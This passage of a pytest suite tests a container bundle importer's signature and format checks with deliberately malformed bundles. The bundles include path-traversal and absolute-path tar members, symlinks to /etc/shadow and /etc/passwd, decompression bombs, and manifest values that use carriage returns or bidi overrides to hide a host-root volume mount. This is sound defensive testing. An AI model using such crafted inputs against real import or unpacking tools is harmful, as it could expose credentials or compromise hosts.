"""The trust gate end to end: real bundles, real gpg, the real Docker engine, the real CLI.

Every bad bundle is a variant of one real bundle that breaks exactly one rule (tests.craft), and
is run through `bundle verify` AND `bundle import --yes`. Each must exit 3 with ONE line on stderr,
`refused: <check>: <reason>`, and change nothing: verify leaves the state dir as it was; import
adds no image to the engine, leaves the running installed version alone, and changes nothing in
the state dir but the `lock` file and ONE appended audit.log line recording the refusal.
"""

from __future__ import annotations

import io
import json
import struct
import time
from pathlib import Path

import pytest
import zstandard

from bundlecore import format as fmt
from bundlecore.timeutil import format_ts, plus, utc_now
from importer.state import StateDir

pytest.register_assert_rewrite("tests.keys", "tests.craft")

from tests.craft import (IMAGE_REPO, EngineSnapshot, Member, damaged, imported_for_real, resign,  # noqa: E402
                         run_bundle, sha256, snapshot_dir, zstd_frame)
from tests.keys import gpg_time  # noqa: E402


SKIPPABLE = struct.pack("<II", 0x184D2A50, 4) + b"skip"


class Gate:
    """Runs the CLI on crafted bundles and checks that a refusal changed nothing."""

    def __init__(self, base, client, installed, tmp_path: Path, *, adopt: bool = True):
        self.base = base
        self.client = client
        self.installed = installed
        self.tmp = tmp_path
        self.keys_dir = base.keys_dir
        self.state_dir = tmp_path / "state"
        # the installed app was started by hand, not by bundle: the gate's imports adopt it
        # (what a bundle may take over is the ownership tests' business: they pass adopt=False)
        self.adopt = adopt

    def variant(self):
        return self.base.variant()

    def path(self, name: str) -> Path:
        return self.tmp / f"{name}.bundle"

    def verify(self, bundle: Path, *extra, keys_dir: Path | None = None, measure_rss: bool = False):
        return run_bundle("verify", bundle, "--keys", keys_dir or self.keys_dir, "--state-dir", self.state_dir, *extra,
                          measure_rss=measure_rss)

    def import_(self, bundle: Path, *extra, keys_dir: Path | None = None, measure_rss: bool = False):
        return run_bundle("import", bundle, "--keys", keys_dir or self.keys_dir, "--state-dir", self.state_dir,
                          "--yes", *(("--adopt",) if self.adopt else ()), *extra, measure_rss=measure_rss)

    def record_installed(self, sequence: int) -> None:
        StateDir(self.state_dir).raise_sequence(self.base.name, sequence)

    # -- the assertions ----------------------------------------------------------------------
    @staticmethod
    def assert_one_line_refusal(r, check: str, reason: str, also: tuple = ()) -> str:
        """Exit 3, one line `refused: <check>: ...<reason>...` (or one of the `also` pairs)."""
        assert r.code == 3, str(r)
        assert "Traceback" not in r.stderr, str(r)
        lines = r.stderr_lines
        assert len(lines) == 1, f"stderr is not one line:\n{r}"
        line = lines[0]
        expected = ((check, reason), *also)
        assert any(line.startswith(f"refused: {c}: ") and w.lower() in line.lower() for c, w in expected), \
            f"expected check {check!r} with {reason!r} in the reason:\n{r}"
        return line

    def refused(self, bundle: Path, check: str, reason: str, *, also: tuple = (), keys_dir: Path | None = None,
                extra=(), verify: bool = True, import_: bool = True, watch_ids: set[str] = frozenset(),
                max_rss_mib: float | None = None):
        """Run verify and import on `bundle`: each refuses with `check`/`reason` and changes nothing."""
        results = []
        if verify:
            before = snapshot_dir(self.state_dir)
            r = self.verify(bundle, *extra, keys_dir=keys_dir, measure_rss=max_rss_mib is not None)
            self.assert_one_line_refusal(r, check, reason, also)
            assert r.stdout == "", str(r)
            assert snapshot_dir(self.state_dir) == before, "bundle verify changed the state dir"
            results.append(r)
        if import_:
            results.append(self._refused_import(bundle, check, reason, also, keys_dir, extra, watch_ids,
                                               measure_rss=max_rss_mib is not None))
        if max_rss_mib is not None:
            for r in results:
                assert r.maxrss_mib < max_rss_mib, f"{r.args[0]} peaked at {r.maxrss_mib:.0f} MiB"
        return results

    def own_tags(self, snapshot: EngineSnapshot) -> dict[str, str]:
        """This session's tags only: other tests build and remove theirs on the same engine at the same time."""
        return {t: i for t, i in snapshot.tags.items()
                if t.startswith(IMAGE_REPO) and t.endswith(f"-{self.base.token}")}

    def _refused_import(self, bundle, check, reason, also, keys_dir, extra, watch_ids, measure_rss=False):
        assert self.installed is not None
        prefix = self.base.target_name
        engine_before = EngineSnapshot.take(self.client, prefix)
        state_before = snapshot_dir(self.state_dir)
        audit_before = state_before.get("audit.log") or b""
        assert engine_before.containers[prefix][2], "the installed app is not running before the import"

        r = self.import_(bundle, *extra, keys_dir=keys_dir, measure_rss=measure_rss)
        line = self.assert_one_line_refusal(r, check, reason, also)

        # the engine: no image of the bundle, no tag moved, the installed container untouched
        engine_after = EngineSnapshot.take(self.client, prefix)
        new_ids = engine_after.image_ids - engine_before.image_ids
        watched = {self.base.image["id"], *watch_ids}
        assert not new_ids & watched, f"the refused import loaded {new_ids & watched}"
        assert self.own_tags(engine_after) == self.own_tags(engine_before), "the refused import moved a tag"
        assert engine_after.containers == engine_before.containers, "the refused import touched a container"

        # the state dir: only the lock, one audit line and the metrics derived from the log
        state_after = snapshot_dir(self.state_dir)
        allowed = {"lock", "audit.log", "metrics", "metrics/bundle.prom"}
        staging = {k for k in state_after if k == "staging" or k.startswith("staging/")}
        assert staging <= {"staging"}, f"staging left behind: {sorted(staging)}"
        assert ({k: v for k, v in state_after.items() if k not in allowed | staging}
                == {k: v for k, v in state_before.items() if k not in allowed | staging}), \
            "the refused import changed the state dir"
        audit_after = state_after["audit.log"]
        assert audit_after.startswith(audit_before)
        new_lines = audit_after[len(audit_before):].decode().splitlines()
        assert len(new_lines) == 1, new_lines
        event = json.loads(new_lines[0])
        assert event["event"] == "import" and event["result"] == "refused" and event["message"] == line, event
        assert event["check"] == line.split(": ")[1] and event["exit_code"] == 3, event
        return r


@pytest.fixture
def gate(base_bundle, docker_client, installed_app, tmp_path) -> Gate:
    return Gate(base_bundle, docker_client, installed_app, tmp_path)


@pytest.fixture
def verify_only_gate(base_bundle, docker_client, tmp_path) -> Gate:
    return Gate(base_bundle, docker_client, None, tmp_path)


def first_layer(v) -> Member:
    return v.member(v.manifest["images"][0]["layers"][0])


# =============================================================================================
# the good bundle
# =============================================================================================

def test_good_bundle_verifies_and_names_its_signer(verify_only_gate, pgp_keys):
    g = verify_only_gate
    r = g.verify(g.base.path)
    assert r.code == 0, str(r)
    assert f"signed by: {pgp_keys.builder.fpr}" in r.stdout
    assert f"trusted: {g.base.name} 2.0.0 sequence 5" in r.stdout
    assert r.stderr == ""
    assert not g.state_dir.exists(), "verify created the state dir"


def test_verify_json_output_parses_and_lists_every_check(verify_only_gate, pgp_keys):
    g = verify_only_gate
    r = g.verify(g.base.path, "--json")
    assert r.code == 0, str(r)
    report = json.loads(r.stdout)
    assert report["trusted"] is True
    assert report["name"] == g.base.name and report["sequence"] == 5
    assert [s["fingerprint"] for s in report["signers"]] == [pgp_keys.builder.fpr]
    assert report["images"] == [{"ref": g.base.image["ref"], "id": g.base.image["id"]}]
    assert report["payload_bytes"] == sum(len(m.data) for m in g.base.members)
    assert {"signature", "manifest", "payload", "sequence"} <= set(report["checks"])


def test_repacked_copy_of_the_bundle_still_verifies(verify_only_gate):
    """The crafting toolkit itself: an unchanged variant is a good bundle, so every refusal below
    comes from the one thing each test changes."""
    g = verify_only_gate
    r = g.verify(g.variant().write(g.path("repacked")))
    assert r.code == 0, str(r)


def test_dry_run_import_of_a_good_bundle_loads_nothing(gate):
    before = EngineSnapshot.take(gate.client, gate.base.target_name)
    r = gate.import_(gate.base.path, "--dry-run")
    assert r.code == 0, str(r)
    after = EngineSnapshot.take(gate.client, gate.base.target_name)
    assert gate.base.image["id"] not in after.image_ids
    assert after.containers == before.containers
    event = json.loads((gate.state_dir / "audit.log").read_text().splitlines()[-1])
    assert event["result"] == "dry-run"


def test_unattended_import_without_yes_is_refused_and_changes_nothing(gate):
    before = EngineSnapshot.take(gate.client, gate.base.target_name)
    r = run_bundle("import", gate.base.path, "--keys", gate.keys_dir, "--state-dir", gate.state_dir, "--adopt")
    assert r.code == 2, str(r)
    assert r.stderr_lines[-1] == "error: not a terminal: pass --yes to import without confirmation", str(r)
    after = EngineSnapshot.take(gate.client, gate.base.target_name)
    assert gate.base.image["id"] not in after.image_ids
    assert after.containers == before.containers and gate.own_tags(after) == gate.own_tags(before)
    assert not (gate.state_dir / "staging").exists() or not any((gate.state_dir / "staging").iterdir())


# =============================================================================================
# rule 1: zstd framing, caps, truncation, trailing bytes
# =============================================================================================

def test_byte_flipped_in_the_head_frame_is_refused(gate):
    # in its compressed data (the frame's end: bundle build pads the head with empty blocks after its header)
    bad = damaged(gate.base.path, gate.path("flip-head"), flip_at=gate.base.head.frame_size - 10)
    gate.refused(bad, "zstd", "head frame does not decompress")


@pytest.mark.parametrize("at", [0, 1, 2])
def test_byte_flipped_in_the_head_frame_s_padding_is_refused(gate, at):
    """Flipped in the empty blocks that pad the head: the frame no longer parses, whichever byte
    (a block of reserved type, or one whose size runs past the head)."""
    assert gate.base.head.frame_size % fmt.FS_BLOCK == 0  # the builder padded it (ext4)
    bad = damaged(gate.base.path, gate.path(f"flip-pad-{at}"), flip_at=gate.base.head.frame_size // 2 + at)
    gate.refused(bad, "zstd", "", also=(("truncated", "inside the head frame"),))


def test_byte_flipped_in_the_payload_is_refused(gate):
    size = gate.base.path.stat().st_size
    offset = gate.base.head.frame_size + (size - gate.base.head.frame_size) // 2
    bad = damaged(gate.base.path, gate.path("flip-payload"), flip_at=offset)
    # A flipped compressed byte is caught either by zstd (corrupt block, frame checksum) or by the
    # member's sha256, whichever comes first for that byte: both are refusals of the payload.
    gate.refused(bad, "zstd", "payload does not decompress", also=(("payload", "does not match its line"),))


def test_payload_file_changed_after_signing_is_refused(gate):
    v = gate.variant()
    layer = first_layer(v)
    layer.data = layer.data[:5000] + bytes([layer.data[5000] ^ 1]) + layer.data[5001:]
    gate.refused(v.write(gate.path("changed-layer")), "payload", f"{layer.name} does not match its line")


def test_layer_the_engine_already_has_is_still_verified(gate):
    """With the bundle's image already in the engine, an import sends docker load none of its
    layers; they are hashed all the same, and a changed copy of one is refused."""
    archive = io.BytesIO()
    for m in gate.base.members:
        if m.regular and m.name.startswith(fmt.PAYLOAD_PREFIX):
            archive.write(fmt.tar_member(m.name[len(fmt.PAYLOAD_PREFIX):], m.data, 0))
    archive.write(fmt.TAR_END)
    gate.client.images.load(archive.getvalue())
    try:
        assert gate.client.images.get(gate.base.image["id"]), "precondition: the image is in the engine"
        v = gate.variant()
        layer = first_layer(v)
        layer.data = layer.data[:-700] + bytes([layer.data[-700] ^ 1]) + layer.data[-699:]
        gate.refused(v.write(gate.path("changed-present-layer")), "payload",
                     f"{layer.name} does not match its line", verify=False)
    finally:
        gate.client.images.remove(gate.base.image["id"], force=True)


def test_bundle_truncated_inside_the_payload_is_refused(gate):
    size = gate.base.path.stat().st_size
    bad = damaged(gate.base.path, gate.path("truncated"), truncate_to=size - 1000)
    gate.refused(bad, "truncated", "bundle is truncated")


def test_bundle_cut_right_after_its_head_frame_is_refused(gate):
    bad = damaged(gate.base.path, gate.path("head-only"), truncate_to=gate.base.head.frame_size)
    gate.refused(bad, "truncated", "bundle is truncated")


def test_bundle_cut_inside_its_head_frame_is_refused(gate):
    bad = damaged(gate.base.path, gate.path("cut-head"), truncate_to=gate.base.head.frame_size - 7)
    gate.refused(bad, "truncated", "inside the head frame")


def test_trailing_bytes_after_the_last_frame_are_refused(gate):
    bad = damaged(gate.base.path, gate.path("trailing"), append=b"some trailing bytes\n")
    gate.refused(bad, "zstd", "trailing garbage")


def test_bytes_after_the_tar_end_inside_the_last_frame_are_refused(gate):
    v = gate.variant()
    v.zeros_after_end = fmt.BLOCK
    gate.refused(v.write(gate.path("after-tar-end")), "trailing data", "bytes after the tar end")


def test_tar_end_of_one_zero_block_is_refused(gate):
    v = gate.variant()
    v.tar_end = b"\0" * fmt.BLOCK
    gate.refused(v.write(gate.path("short-tar-end")), "truncated", "tar end")


def test_skippable_zstd_frame_appended_is_refused(gate):
    bad = damaged(gate.base.path, gate.path("skippable-end"), append=SKIPPABLE)
    gate.refused(bad, "zstd", "skippable zstd frame")


def test_empty_zstd_frame_appended_is_refused(gate):
    """It would change nothing that is read, but the file would no longer be the one signed for."""
    bad = damaged(gate.base.path, gate.path("empty-frame"), append=zstandard.ZstdCompressor().compress(b""))
    gate.refused(bad, "trailing data", "the payload is 2 zstd frames, the format allows one")


def test_skippable_zstd_frame_between_head_and_payload_is_refused(gate):
    v = gate.variant()
    v.between = SKIPPABLE
    gate.refused(v.write(gate.path("skippable-middle")), "zstd", "skippable zstd frame")


def test_file_with_wrong_magic_is_refused(gate):
    bad = damaged(gate.base.path, gate.path("magic"), overwrite=(0, b"PK\x03\x04"))
    gate.refused(bad, "zstd", "does not start with a zstd frame")


def test_head_frame_bomb_is_refused_without_inflating_it(gate):
    """A 40 KB head frame that declares 1 GiB of content: refused from the frame header alone."""
    v = gate.variant()
    head_tar = b"".join(m.tar(v.mtime) for m in v.default_head_members())
    v.head_frame = zstd_frame(head_tar, level=1, zeros_after=(1 << 30))
    assert len(v.head_frame) < 100_000
    gate.refused(v.write(gate.path("head-bomb")), "size cap", "past its cap", max_rss_mib=300)


def test_head_frame_bomb_without_declared_size_is_refused_without_inflating_it(gate):
    v = gate.variant()
    head_tar = b"".join(m.tar(v.mtime) for m in v.default_head_members())
    v.head_frame = zstd_frame(head_tar, level=1, zeros_after=(1 << 30), content_size=False)
    r = gate.refused(v.write(gate.path("head-bomb-nosize")), "zstd", "head frame does not decompress",
                     max_rss_mib=300)
    assert all(x.seconds < 30 for x in r)


def test_payload_frame_that_expands_past_the_declared_sizes_is_refused_early(gate):
    """1 GiB of zeros after the tar end, in a 32 KiB frame: refused after the first extra byte."""
    v = gate.variant()
    v.zeros_after_end = 1 << 30
    bad = v.write(gate.path("payload-bomb"))
    assert bad.stat().st_size < gate.base.path.stat().st_size + 100_000
    results = gate.refused(bad, "trailing data", "bytes after the tar end", max_rss_mib=300)
    assert all(r.seconds < 30 for r in results), [r.seconds for r in results]


def test_manifest_over_its_size_cap_is_refused(gate):
    v = gate.variant()
    members = v.default_head_members()
    members[0].data += b" " * (fmt.MAX_MANIFEST + 1)  # still valid JSON, but over the cap
    v.head_members = members
    gate.refused(v.write(gate.path("big-manifest")), "size cap", "manifest.json is")


def test_payload_frame_needing_more_decoder_memory_than_the_cap_is_refused(gate):
    v = gate.variant()
    tar = b"".join(m.tar(v.mtime) for m in v.members) + fmt.TAR_END
    params = zstandard.ZstdCompressionParameters.from_level(3, window_log=27, write_checksum=True)
    obj = zstandard.ZstdCompressor(compression_params=params).compressobj()  # no size: window kept
    frame = obj.compress(tar) + obj.flush()
    bad = gate.path("big-window")
    bad.write_bytes(v.head() + frame)
    assert zstandard.get_frame_parameters(frame).window_size > fmt.MAX_WINDOW
    gate.refused(bad, "zstd", "payload does not decompress")


# =============================================================================================
# rule 2: strict tar members
# =============================================================================================

@pytest.mark.parametrize("member, reason", [
    (Member("../x", b"escape\n"), "'..'"),
    (Member("/etc/x", b"escape\n"), "absolute path"),
    (Member("images/link", typeflag=b"2", linkname="/etc/shadow"), "is a symlink"),
    (Member("images/hard", typeflag=b"1", linkname="manifest.json"), "is a hard link"),
    (Member("images/dev", typeflag=b"3"), "is a character device"),
    (Member("images/dir/", typeflag=b"5"), "is a directory"),
], ids=["dotdot", "absolute", "symlink", "hardlink", "device", "directory"])
def test_payload_member_that_is_not_a_plain_file_with_a_plain_name_is_refused(gate, member, reason):
    v = gate.variant()
    v.members.insert(0, member)
    gate.refused(v.write(gate.path("bad-member")), "tar members", reason)


def test_symlink_in_the_head_is_refused(gate):
    v = gate.variant()
    members = v.default_head_members()
    members[2] = Member(fmt.SIGNATURES, typeflag=b"2", linkname="/etc/passwd")
    v.head_members = members
    gate.refused(v.write(gate.path("head-symlink")), "tar members", "is a symlink")


@pytest.mark.parametrize("where", ["head-second", "head-after-signatures", "payload-first", "payload-last"])
def test_duplicate_manifest_with_different_content_is_refused(gate, where):
    v = gate.variant()
    evil = dict(v.manifest, version="6.6.6")
    dup = Member(fmt.MANIFEST, fmt.dumps_canonical(evil))
    if where.startswith("head"):
        members = v.default_head_members()
        members.insert(1 if where == "head-second" else 3, dup)
        v.head_members = members
    else:
        v.members.insert(0 if where == "payload-first" else len(v.members), dup)
    reason = {"head-second": "unexpected member 'manifest.json' in the head",
              "head-after-signatures": "head frame holds more than",
              "payload-first": "unexpected payload member 'manifest.json'",
              "payload-last": "extra member 'manifest.json'"}[where]
    gate.refused(v.write(gate.path("dup-manifest")), "tar members", reason)


def test_extra_member_not_in_the_manifest_is_refused(gate):
    v = gate.variant()
    v.members.append(Member("images/extra.tar", b"not signed\n"))
    gate.refused(v.write(gate.path("extra")), "tar members", "extra member 'images/extra.tar'")


def test_missing_member_is_refused(gate):
    v = gate.variant()
    gone = first_layer(v)
    v.members.remove(gone)
    gate.refused(v.write(gate.path("missing")), "tar members", "unexpected payload member")


def test_last_member_missing_is_refused(gate):
    v = gate.variant()
    gone = v.members.pop()
    gate.refused(v.write(gate.path("missing-last")), "tar members", f"payload member {gone.name} is missing")


def test_members_out_of_the_manifest_order_are_refused(gate):
    v = gate.variant()
    v.members[0], v.members[1] = v.members[1], v.members[0]
    gate.refused(v.write(gate.path("reordered")), "tar members", "unexpected payload member")


def test_member_size_different_from_the_manifest_is_refused(gate):
    v = gate.variant()
    m = v.member(fmt.DOCKER_ARCHIVE_MANIFEST)
    m.data += b" "
    gate.refused(v.write(gate.path("resized")), "tar members", "the manifest says")


def test_head_without_its_signature_member_is_refused(gate):
    v = gate.variant()
    v.head_members = v.default_head_members()[:2]
    gate.refused(v.write(gate.path("no-asc")), "tar members", "head frame ends before SHA256SUMS.asc")


# =============================================================================================
# rule 3: signatures under the trust store's policy
# =============================================================================================

def test_unsigned_bundle_is_refused(gate):
    v = gate.variant()
    v.signatures = b""
    gate.refused(v.write(gate.path("unsigned")), "signature", "unsigned")


def test_empty_signature_block_is_refused(gate):
    v = gate.variant()
    v.signatures = b"-----BEGIN PGP SIGNATURE-----\n\n-----END PGP SIGNATURE-----\n"
    gate.refused(v.write(gate.path("empty-sig")), "signature", "does not match SHA256SUMS")


def test_signature_file_with_other_content_is_refused(gate):
    v = gate.variant()
    v.signatures = v.final_signatures() + b"\nand a comment\n"
    gate.refused(v.write(gate.path("sig-comment")), "signature", "something other than armored signatures")


def test_signature_by_key_outside_the_trust_store_is_refused(gate, pgp_keys):
    v = gate.variant()
    v.signers = [pgp_keys.outsider]
    gate.refused(v.write(gate.path("outsider")), "signature",
                 f"signed by {pgp_keys.outsider.fpr}, which is not in the trust store")


def test_signature_by_expired_key_is_refused(gate, pgp_keys, trust_store_of):
    store = trust_store_of([pgp_keys.builder, pgp_keys.expired])
    v = gate.variant()
    v.signers = [pgp_keys.expired]
    gate.refused(v.write(gate.path("expired-key")), "signature", f"{pgp_keys.expired.fpr}, whose key has expired",
                 keys_dir=store)


def test_signature_by_revoked_key_is_refused(gate, pgp_keys, trust_store_of):
    store = trust_store_of([pgp_keys.builder, pgp_keys.revoked])
    v = gate.variant()
    v.signers = [pgp_keys.revoked]
    gate.refused(v.write(gate.path("revoked-key")), "signature", f"{pgp_keys.revoked.fpr}, whose key was revoked",
                 keys_dir=store)


def test_sha256sums_changed_after_signing_is_refused(gate):
    v = gate.variant()
    v.signatures = v.final_signatures()
    sums = v.final_sums()
    # a payload line pointed at other bytes, the signature left as it was
    v.sums = sums.replace(sums[:64], sha256(b"other")[:64].encode(), 1)
    gate.refused(v.write(gate.path("sums-changed")), "signature", "does not match SHA256SUMS")


def test_valid_signature_but_swapped_manifest_is_refused(gate):
    v = gate.variant()
    v.sums, v.signatures = gate.base.head.sums, gate.base.head.signatures   # the builder's, untouched
    v.manifest["target"]["run"]["cap_add"] = ["SYS_ADMIN"]
    gate.refused(v.write(gate.path("swapped-manifest")), "manifest",
                 "manifest.json does not match its line in the signed SHA256SUMS")


def test_bad_and_good_signature_do_not_meet_a_threshold_of_two(gate, pgp_keys, trust_store_of):
    store = trust_store_of([pgp_keys.builder, pgp_keys.approver],
                           {"signers": ([pgp_keys.builder, pgp_keys.approver], 2)})
    v = gate.variant()
    bad = pgp_keys.approver.sign(b"some other SHA256SUMS\n")
    v.signatures = bad + pgp_keys.builder.sign(v.final_sums())
    gate.refused(v.write(gate.path("bad-good")), "signature", "role signers needs 2 distinct signing keys, found 1",
                 keys_dir=store)


def test_same_key_signing_twice_counts_once(gate, pgp_keys, trust_store_of):
    store = trust_store_of([pgp_keys.builder, pgp_keys.approver],
                           {"signers": ([pgp_keys.builder, pgp_keys.approver], 2)})
    v = gate.variant()
    v.signers = [pgp_keys.builder, pgp_keys.builder]
    bundle = v.write(gate.path("twice"))
    assert v.final_signatures().count(b"BEGIN PGP SIGNATURE") == 2
    gate.refused(bundle, "signature", "role signers needs 2 distinct signing keys, found 1", keys_dir=store)


def test_subkey_and_its_primary_signing_count_as_one_key(gate, pgp_keys, trust_store_of):
    """The distinct-key rule is about primary keys: a subkey cannot stand in for a second signer."""
    k = pgp_keys.subkeyed
    store = trust_store_of([k, pgp_keys.approver], {"signers": ([k, pgp_keys.approver], 2)})
    v = gate.variant()
    sums = v.final_sums()
    v.signatures = k.sign(sums, by=k.fpr) + k.sign(sums)
    gate.refused(v.write(gate.path("subkey-twice")), "signature",
                 "role signers needs 2 distinct signing keys, found 1", keys_dir=store)


def test_policy_with_builders_and_approvers_met_by_two_keys_passes(verify_only_gate, pgp_keys, trust_store_of):
    g = verify_only_gate
    store = trust_store_of([pgp_keys.builder, pgp_keys.approver, pgp_keys.approver2],
                           {"builders": ([pgp_keys.builder], 1),
                            "approvers": ([pgp_keys.approver, pgp_keys.approver2], 1)})
    # the builder's bundle alone does not meet the policy ...
    r = g.verify(g.base.path, keys_dir=store)
    Gate.assert_one_line_refusal(r, "signature", "role approvers needs 1 distinct signing keys, found 0")
    # ... an approver's detached signature over the same SHA256SUMS, added to the head, does
    approved = resign(g.base.path, g.path("approved"),
                      g.base.head.signatures + pgp_keys.approver.sign(g.base.head.sums))
    r = g.verify(approved, "--json", keys_dir=store)
    assert r.code == 0, str(r)
    signers = {s["fingerprint"]: s["roles"] for s in json.loads(r.stdout)["signers"]}
    assert signers == {pgp_keys.builder.fpr: ["builders"], pgp_keys.approver.fpr: ["approvers"]}


def test_unrelated_extra_signature_from_unknown_key_does_not_break_a_met_policy(verify_only_gate, pgp_keys,
                                                                                  trust_store_of):
    """Decided: signatures that do not count are ignored once the policy is met (the bundle is no
    less trustworthy because a stranger also signed it); they are not reported as signers."""
    g = verify_only_gate
    store = trust_store_of([pgp_keys.builder, pgp_keys.approver],
                           {"builders": ([pgp_keys.builder], 1), "approvers": ([pgp_keys.approver], 1)})
    sigs = (pgp_keys.outsider.sign(g.base.head.sums) + g.base.head.signatures
            + pgp_keys.approver.sign(g.base.head.sums))
    r = g.verify(resign(g.base.path, g.path("extra-sig"), sigs), "--json", keys_dir=store)
    assert r.code == 0, str(r)
    assert {s["fingerprint"] for s in json.loads(r.stdout)["signers"]} == {pgp_keys.builder.fpr, pgp_keys.approver.fpr}


def test_policy_not_met_still_refused_when_an_unknown_key_also_signed(gate, pgp_keys, trust_store_of):
    store = trust_store_of([pgp_keys.builder, pgp_keys.approver],
                           {"builders": ([pgp_keys.builder], 1), "approvers": ([pgp_keys.approver], 1)})
    v = gate.variant()
    v.signers = [pgp_keys.builder, pgp_keys.outsider]
    gate.refused(v.write(gate.path("outsider-approver")), "signature",
                 "role approvers needs 1 distinct signing keys, found 0", keys_dir=store)


def test_signature_by_a_signing_subkey_counts_for_its_primary(verify_only_gate, pgp_keys, trust_store_of):
    g = verify_only_gate
    k = pgp_keys.subkeyed
    assert k.signing_fpr != k.fpr
    store = trust_store_of([k], {"builders": ([k], 1)})
    v = g.variant()
    v.signers = [k]
    r = g.verify(v.write(g.path("subkey")), "--json", keys_dir=store)
    assert r.code == 0, str(r)
    assert json.loads(r.stdout)["signers"] == [{"fingerprint": k.fpr, "uid": None, "roles": ["builders"]}]


@pytest.mark.parametrize("policy", ["", "[roles]\n"], ids=["empty-file", "lone-roles-table"])
def test_policy_without_roles_is_an_environment_error_and_changes_nothing(gate, pgp_keys, trust_store_of, policy):
    """Finding 11: an empty policy.toml failed open (any one key sufficed)."""
    store = trust_store_of([pgp_keys.builder])
    (store / "policy.toml").write_text(policy)
    expected = f"error: policy {store / 'policy.toml'}: a policy must define at least one role ([roles.NAME] with keys)"
    engine_before = EngineSnapshot.take(gate.client, gate.base.target_name)
    for run in (gate.verify, gate.import_):
        state_before = snapshot_dir(gate.state_dir)
        r = run(gate.base.path, keys_dir=store)
        assert r.code == 1, str(r)
        assert r.stderr_lines == [expected], str(r)
        assert {k: v for k, v in snapshot_dir(gate.state_dir).items() if k not in ("lock", "audit.log")} == \
            {k: v for k, v in state_before.items() if k not in ("lock", "audit.log")}
    engine_after = EngineSnapshot.take(gate.client, gate.base.target_name)
    assert gate.base.image["id"] not in engine_after.image_ids
    # this test's tags only: other runs build and remove theirs on the same engine
    ours = lambda tags: {t: i for t, i in tags.items() if t.endswith(f"-{gate.base.token}")}  # noqa: E731
    assert engine_after.containers == engine_before.containers and ours(engine_after.tags) == ours(engine_before.tags)


@pytest.mark.parametrize("gpg_args, reason", [
    (lambda: ("--digest-algo", "SHA1"), "uses a weak hash (gpg hash algorithm 2); SHA-256 or stronger is required"),
    (lambda: ("--faked-system-time", gpg_time(3600)), "is dated in the future"),
], ids=["sha1", "dated-an-hour-ahead"])
def test_signature_with_sha1_or_from_the_future_is_refused(gate, pgp_keys, gpg_args, reason):
    v = gate.variant()
    v.signatures = pgp_keys.builder.sign(v.final_sums(), gpg_args=gpg_args())
    gate.refused(v.write(gate.path("weak-sig")), "signature", f"signature by {pgp_keys.builder.fpr} {reason}")


def test_expired_signature_is_refused_as_expired(gate, pgp_keys):
    v = gate.variant()
    # made the moment the key was (gpg's clock set back), valid for 2 s: expired for a verifier
    # running now (the session made the key, then built the base bundle), no sleep
    made = pgp_keys.builder.created() - time.time()
    assert made < -3, "the key is too new for a signature made when it was to have expired"
    v.signatures = pgp_keys.builder.sign(v.final_sums(), gpg_args=("--faked-system-time", gpg_time(made),
                                                                    "--default-sig-expire", "seconds=2"))
    bundle = v.write(gate.path("expired-sig"))
    for r in gate.refused(bundle, "signature", f"signature by {pgp_keys.builder.fpr} expired"):
        assert "does not match" not in r.stderr


def test_revocation_certificate_in_the_store_revokes_its_key(gate, pgp_keys, trust_store_of):
    """The certificate exactly as gpg wrote it at key generation (openpgp-revocs.d/FPR.rev)."""
    k = pgp_keys.approver
    store = trust_store_of([pgp_keys.builder, k])
    (store / f"{k.fpr}.rev").write_bytes(k.revocation_cert())
    v = gate.variant()
    v.signers = [k]
    gate.refused(v.write(gate.path("rev")), "signature", f"signed by {k.fpr}, whose key was revoked", keys_dir=store)


# =============================================================================================
# scope of a signature: roles bound to app names and image repositories
# =============================================================================================

def scoped_store(trust_store_of, key, apps: list[str], repos: list[str]) -> Path:
    store = trust_store_of([key])
    quoted = lambda names: ", ".join(f'"{n}"' for n in names)  # noqa: E731
    (store / "policy.toml").write_text(f'[roles.builders]\nkeys = ["{key.fpr}"]\nthreshold = 1\n'
                                       f'apps = [{quoted(apps)}]\nrepos = [{quoted(repos)}]\n')
    return store


def test_builder_scoped_to_an_app_may_not_sign_a_bundle_named_otherwise(gate, pgp_keys, trust_store_of):
    k = pgp_keys.builder
    store = scoped_store(trust_store_of, k, [gate.base.name], [IMAGE_REPO])
    v = gate.variant()
    v.manifest["name"] = "evil"
    gate.refused(v.write(gate.path("evil")), "signature", f"key {k.fpr} (role builders) may not sign app evil",
                 keys_dir=store)


def test_builder_scoped_to_repositories_may_not_sign_an_image_outside_them(gate, pgp_keys, trust_store_of):
    k = pgp_keys.builder
    store = scoped_store(trust_store_of, k, [gate.base.name], ["demo/app", "mintplexlabs/*"])
    gate.refused(gate.base.path, "signature",
                 f"key {k.fpr} (role builders) may not sign image {gate.base.image['ref']}", keys_dir=store)


@pytest.mark.parametrize("repos", [[IMAGE_REPO], [IMAGE_REPO.split("/")[0] + "/*"]], ids=["exact", "prefix"])
def test_builder_signing_within_its_scope_is_accepted(verify_only_gate, pgp_keys, trust_store_of, repos):
    g = verify_only_gate
    r = g.verify(g.base.path, "--json", keys_dir=scoped_store(trust_store_of, pgp_keys.builder, [g.base.name], repos))
    assert r.code == 0, str(r)
    assert json.loads(r.stdout)["signers"] == [{"fingerprint": pgp_keys.builder.fpr, "uid": None, "roles": ["builders"]}]


# =============================================================================================
# rule 4: the manifest
# =============================================================================================

def test_duplicate_json_keys_in_a_signed_manifest_are_refused(gate):
    v = gate.variant()
    raw = fmt.dumps_canonical(v.manifest).decode()
    assert raw.count('\n  "version": "2.0.0"') == 1
    v.manifest_bytes = raw.replace('\n  "version": "2.0.0"', '\n  "version": "9.9.9",\n  "version": "2.0.0"').encode()
    gate.refused(v.write(gate.path("dup-keys")), "manifest", "manifest.json has the key 'version' twice")


def test_signed_manifest_failing_its_schema_is_refused(gate):
    v = gate.variant()
    v.manifest["sequence"] = "6"
    gate.refused(v.write(gate.path("schema")), "manifest", "fails its schema at sequence")


@pytest.mark.parametrize("where, value", [
    ("volumes", "/:/h\r/srv/app/data:/data"),
    ("volumes", "/srv/app/data\u202e:/data"),
    ("env", "hello\rGREETING=harmless"),
    ("env", "hello \u202eevil"),
], ids=["volume-cr", "volume-rtl-override", "env-cr", "env-rtl-override"])
def test_validly_signed_manifest_with_a_control_or_bidi_character_is_refused(gate, where, value):
    """Finding 4 / 13: a signed string could make the plan show a harmless line for `/:/h`."""
    v = gate.variant()
    run = v.manifest["target"].setdefault("run", {})
    if where == "volumes":
        run["volumes"] = [value]
        at = "target.run.volumes.0"
    else:
        run["env"] = {"GREETING": value}
        at = "target.run.env.GREETING"
    gate.refused(v.write(gate.path(f"unprintable-{where}")), "manifest", f"control or non-printing character at {at}")


def test_signed_manifest_with_an_unknown_field_is_refused(gate):
    v = gate.variant()
